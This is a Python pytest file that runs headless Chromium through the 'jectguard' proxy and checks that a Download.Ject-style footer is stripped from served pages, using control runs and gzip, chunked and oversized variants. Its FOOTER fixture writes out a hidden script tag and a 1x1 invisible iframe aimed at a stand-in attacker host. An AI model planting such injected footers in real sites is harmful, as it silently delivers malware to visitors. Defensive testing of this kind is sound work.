"""A real browser through the real proxy: a Download.Ject-style footer is stripped before it runs.

Headless Debian Chromium (``/usr/bin/chromium``, driven by the ``playwright``
package; no browser is ever downloaded) goes through ``jectguard run`` to a local
aiohttp origin whose page runs its own scripts and carries the footer the 2004
attack appended to every page of compromised IIS servers: one inline script that
``document.write``s a ``<script src>`` and a hidden 1x1 iframe pointing at the
attacker. The attacker is a byte counter on this machine's non-loopback address,
which is on the test's IP list.

Each scenario proves three things: the page's own scripts ran; the attacker got
nothing (not even a request the blocking addon would have refused: the proxy saw
no request for it at all); the DOM holds no trace of the injected elements. A
control run with stripping off shows the same page does inject them.

Beside the browser, the same proxy is checked byte for byte with a plain client: a
clean gzip page passes identical, a chunked gzip page (as nginx sends it) is stripped
and re-encoded, and a page over the scan cap streams through untouched with an event.

The browser tests are skipped only when Chromium or playwright is missing; with ``CI`` or
``JG_REQUIRE_BROWSER`` set, missing them is a failure instead.
"""

from __future__ import annotations

import gzip
import http.client
import json
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from aiohttp import web
from multidict import CIMultiDict

from .browsing import SETTLE_SECONDS, attacker_requests
from .conftest import (
    ARTIFACTS,
    ATTACKER_IP,
    NAV_TIMEOUT_MS,
    ByteCounter,
    Proxy,
    serve_app,
)

HUGE_BYTES = 11 * 1024 * 1024  # over the default 10 MB scan cap
PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Shop news</title>
<script src="/app.js"></script>
</head><body>
<h1>Shop news</h1>
<p id="own">own script did not run</p>
<p id="ext">external script did not run</p>
<script>document.getElementById("own").textContent = "own script ran";</script>
</body></html>
"""

# As in June 2004: appended after the document, written once per ten minutes (cookie).
FOOTER = """<script>
if (document.cookie.indexOf("jg_seen=") < 0) {{
  document.cookie = "jg_seen=1; max-age=600; path=/";
  document.write('<script src="{url}"></scr' + 'ipt>');
  document.write('<iframe src="{url}" width=1 height=1 style="visibility:hidden"></iframe>');
}}
</script>
"""

APP_JS = (
    'window.addEventListener("DOMContentLoaded", () => {'
    ' document.getElementById("ext").textContent = "external script ran"; });'
)


# -- the shop origin ----------------------------------------------------------------


@dataclass
class Shop:
    """An origin (HTTP and HTTPS on 127.0.0.1) serving the infected page and its own script."""

    attacker_url: str = ""
    port: int = 0
    tls_port: int = 0
    requests: list[str] = field(default_factory=list)

    def page(self) -> bytes:
        return (PAGE + FOOTER.format(url=self.attacker_url)).encode()


def _shop_app(shop: Shop) -> web.Application:
    async def page(request: web.Request) -> web.Response:
        shop.requests.append(request.path)
        return web.Response(
            body=shop.page(),
            content_type="text/html",
            charset="utf-8",
            headers={"ETag": '"shop-v1"', "Cache-Control": "no-store"},
        )

    async def mixed_type(request: web.Request) -> web.Response:
        """Two Content-Type fields: the browser renders the last (Fetch), an image type first."""
        headers = CIMultiDict(
            [
                ("Content-Type", "image/png"),
                ("Content-Type", "text/html; charset=utf-8"),
                ("Cache-Control", "no-store"),
            ]
        )
        return web.Response(body=shop.page(), headers=headers)

    async def odd_coding(request: web.Request) -> web.Response:
        """The page under codings a browser renders: stacked, unknown (sent raw), bad CRC."""
        coding = request.query["ce"]
        body = shop.page()
        for c in (x.strip() for x in coding.split(",")):
            if c == "gzip":
                body = gzip.compress(body)
        if request.query.get("crc") == "bad":
            body = body[:-8] + bytes(8)
        return web.Response(
            body=body,
            headers={
                "Content-Type": "text/html; charset=utf-8",
                "Content-Encoding": coding,
                "Cache-Control": "no-store",
            },
        )

    async def app_js(request: web.Request) -> web.Response:
        shop.requests.append(request.path)
        return web.Response(text=APP_JS, content_type="application/javascript")

    async def gzip_clean(request: web.Request) -> web.Response:
        return web.Response(
            body=gzip.compress(PAGE.encode()),
            headers={
                "Content-Type": "text/html; charset=utf-8",
                "Content-Encoding": "gzip",
                "ETag": '"clean-v1"',
                "Vary": "Accept-Encoding",
            },
        )

    async def gzip_chunked(request: web.Request) -> web.StreamResponse:
        """An infected page as nginx's on-the-fly gzip sends it: chunked, no length."""
        resp = web.StreamResponse(
            headers={
                "Content-Type": "text/html; charset=utf-8",
                "Content-Encoding": "gzip",
                "ETag": '"news-v2"',
            }
        )
        await resp.prepare(request)
        data = gzip.compress(shop.page())
        for i in range(0, len(data), 1000):
            await resp.write(data[i : i + 1000])
        await resp.write_eof()
        return resp

    async def huge(request: web.Request) -> web.StreamResponse:
        """Over the 10 MB cap, of unknown length: streamed through unscanned."""
        resp = web.StreamResponse(headers={"Content-Type": "text/html"})
        await resp.prepare(request)
        filler = b"<p>" + b"x" * 1020 + b"</p>"
        for _ in range(HUGE_BYTES // len(filler)):
            await resp.write(filler)
        await resp.write(shop.page())
        await resp.write_eof()
        return resp

    app = web.Application()
    app.router.add_get("/news", page)
    app.router.add_get("/news-mixed-type", mixed_type)
    app.router.add_get("/news-coded", odd_coding)
    app.router.add_get("/app.js", app_js)
    app.router.add_get("/clean.gz", gzip_clean)
    app.router.add_get("/news.gz", gzip_chunked)
    app.router.add_get("/huge", huge)
    return app


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shop]:
    s = Shop()
    with serve_app(_shop_app(s), tmp_path_factory.mktemp("shop"), "shop") as served:
        s.port, s.tls_port = served.port, served.tls_port
        yield s


# -- the browser --------------------------------------------------------------------


@pytest.fixture
def infected(shop: Shop, attacker: ByteCounter) -> Shop:
    assert ATTACKER_IP is not None
    shop.attacker_url = f"http://{ATTACKER_IP}:{attacker.port}/dot.php"
    return shop


def events(proxy: Proxy) -> list[dict[str, Any]]:
    out = []
    for line in proxy.output().splitlines():
        if line.startswith("{"):
            try:
                out.append(json.loads(line))
            except ValueError:
                continue
    return out


@dataclass
class Visit:
    own: str
    ext: str
    html: str
    iframes: int
    attacker_scripts: int
    comments: list[str]


def visit(browser: Any, proxy: Proxy, url: str, attacker_url: str, shot: str) -> Visit:
    context = browser.new_context(
        proxy={"server": proxy.url},
        ignore_https_errors=True,  # tests only: the proxy's CA is a throwaway
    )
    try:
        page = context.new_page()
        page.set_default_timeout(NAV_TIMEOUT_MS)
        page.goto(url, wait_until="load", timeout=NAV_TIMEOUT_MS)
        time.sleep(SETTLE_SECONDS)
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / shot), full_page=True)
        return Visit(
            own=page.inner_text("#own"),
            ext=page.inner_text("#ext"),
            html=page.content(),
            iframes=page.locator("iframe").count(),
            attacker_scripts=page.evaluate(
                "(u) => [...document.scripts].filter(s => s.src === u).length", attacker_url
            ),
            comments=page.evaluate(
                "() => { const it = document.createNodeIterator(document, NodeFilter.SHOW_COMMENT);"
                " const out = []; for (let n; (n = it.nextNode());) out.push(n.data); return out; }"
            ),
        )
    finally:
        context.close()


@pytest.mark.parametrize("scheme", ["http", "https"])
def test_footer_stripped_in_a_real_browser(
    browser: Any, proxy: Proxy, infected: Shop, attacker: ByteCounter, scheme: str
) -> None:
    port = infected.port if scheme == "http" else infected.tls_port
    url = f"{scheme}://good.test:{port}/news"
    v = visit(browser, proxy, url, infected.attacker_url, f"strip-{scheme}.png")
    assert v.own == "own script ran"
    assert v.ext == "external script ran"
    assert attacker.connections == 0 and attacker.received == b""
    assert ATTACKER_IP not in v.html and "dot.php" not in v.html
    assert v.iframes == 0 and v.attacker_scripts == 0
    # The comment left in place of the footer (after </html>, so outside <html>).
    assert any("jectguard: removed script" in c for c in v.comments), v.comments
    assert attacker_requests(proxy, infected.attacker_url) == []  # the browser never even asked
    strips = [
        e
        for e in events(proxy)
        if e.get("event") == "strip"
        and str(e.get("url", "")).startswith(f"{scheme}://good.test:{port}/news")
    ]
    assert strips and strips[-1]["removed"] is True and strips[-1]["list"] == "e2e-ips"


def test_control_without_stripping_the_footer_injects(
    browser: Any, proxy_nostrip: Proxy, infected: Shop, attacker: ByteCounter
) -> None:
    """The same page with jg_strip=false: the footer runs (and only blocking saves the day)."""
    url = f"http://good.test:{infected.port}/news"
    v = visit(browser, proxy_nostrip, url, infected.attacker_url, "control-nostrip.png")
    assert v.own == "own script ran"
    assert v.iframes == 1 and v.attacker_scripts == 1  # the injection happened
    deadline = time.monotonic() + 5
    while (
        not attacker_requests(proxy_nostrip, infected.attacker_url) and time.monotonic() < deadline
    ):
        time.sleep(0.1)
    assert attacker_requests(proxy_nostrip, infected.attacker_url), (
        "the browser requested the attacker"
    )
    assert attacker.connections == 0  # refused by the blocking addon, not stripped


def test_page_behind_an_image_content_type_is_still_stripped(
    browser: Any, proxy: Proxy, proxy_nostrip: Proxy, infected: Shop, attacker: ByteCounter
) -> None:
    """``Content-Type: image/png`` then ``text/html``: Chromium renders HTML, so jectguard scans."""
    url = f"http://good.test:{infected.port}/news-mixed-type"
    control = visit(browser, proxy_nostrip, url, infected.attacker_url, "mixed-type-control.png")
    assert control.own == "own script ran" and control.attacker_scripts == 1  # it is a page
    v = visit(browser, proxy, url, infected.attacker_url, "mixed-type-stripped.png")
    assert v.own == "own script ran"
    assert v.iframes == 0 and v.attacker_scripts == 0
    assert "dot.php" not in v.html
    assert attacker.connections == 0 and attacker.received == b""


@pytest.mark.parametrize(
    "query",
    ["ce=gzip,%20gzip", "ce=x-unknown", "ce=gzip&crc=bad"],
    ids=["stacked-gzip", "unknown-coding-sent-raw", "gzip-with-wrong-crc"],
)
def test_footer_stripped_under_codings_chromium_renders(
    browser: Any,
    proxy: Proxy,
    proxy_nostrip: Proxy,
    infected: Shop,
    attacker: ByteCounter,
    query: str,
) -> None:
    """Chromium renders these bodies (the control runs the footer); jectguard must scan them."""
    url = f"http://good.test:{infected.port}/news-coded?{query}"
    control = visit(browser, proxy_nostrip, url, infected.attacker_url, "coding-control.png")
    assert control.own == "own script ran" and control.attacker_scripts == 1
    v = visit(browser, proxy, url, infected.attacker_url, "coding-stripped.png")
    assert v.own == "own script ran"
    assert v.iframes == 0 and v.attacker_scripts == 0 and "dot.php" not in v.html
    assert attacker.connections == 0 and attacker.received == b""


# -- the same proxy, byte for byte (no browser) ---------------------------------------------


def fetch(port: int, url: str) -> tuple[list[tuple[str, str]], bytes]:
    """GET ``url`` through the HTTP proxy on ``port`` (or directly, for port 0); raw body."""
    host, _, rest = url.partition("//")[2].partition("/")
    if port:
        conn = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
        target = url
    else:
        h, _, p = host.partition(":")
        conn = http.client.HTTPConnection("127.0.0.1", int(p), timeout=30)
        target = "/" + rest
    try:
        conn.request("GET", target, headers={"Host": host, "Accept-Encoding": "gzip"})
        resp = conn.getresponse()
        return resp.getheaders(), resp.read()
    finally:
        conn.close()


def test_clean_gzip_page_passes_byte_identical(proxy: Proxy, shop: Shop) -> None:
    url = f"http://good.test:{shop.port}/clean.gz"
    direct_headers, direct = fetch(0, url)
    headers, body = fetch(proxy.port, url)
    assert body == direct  # the same gzip bytes, not re-encoded
    assert [h for h in headers if h[0].lower() != "date"] == [
        h for h in direct_headers if h[0].lower() != "date"
    ]


def test_chunked_gzip_page_stripped_and_reencoded(
    proxy: Proxy, infected: Shop, attacker: ByteCounter
) -> None:
    headers, body = fetch(proxy.port, f"http://good.test:{infected.port}/news.gz")
    h = {k.lower(): v for k, v in headers}
    assert h["content-encoding"] == "gzip" and h["etag"] == 'W/"news-v2"'
    page = gzip.decompress(body)
    assert b"dot.php" not in page and page.startswith(PAGE.encode())
    assert attacker.connections == 0


def test_page_over_the_cap_streams_through_unscanned(proxy: Proxy, infected: Shop) -> None:
    headers, body = fetch(proxy.port, f"http://good.test:{infected.port}/huge")
    assert len(body) > HUGE_BYTES and body.endswith(infected.page())  # untouched
    deadline = time.monotonic() + 5
    skipped: list[dict[str, Any]] = []
    while not skipped and time.monotonic() < deadline:
        skipped = [
            e
            for e in events(proxy)
            if e.get("event") == "strip"
            and e.get("skipped")
            and str(e.get("url", "")).endswith(f":{infected.port}/huge")
        ]
        time.sleep(0.05)
    assert skipped and "too large" in skipped[0]["skipped"]
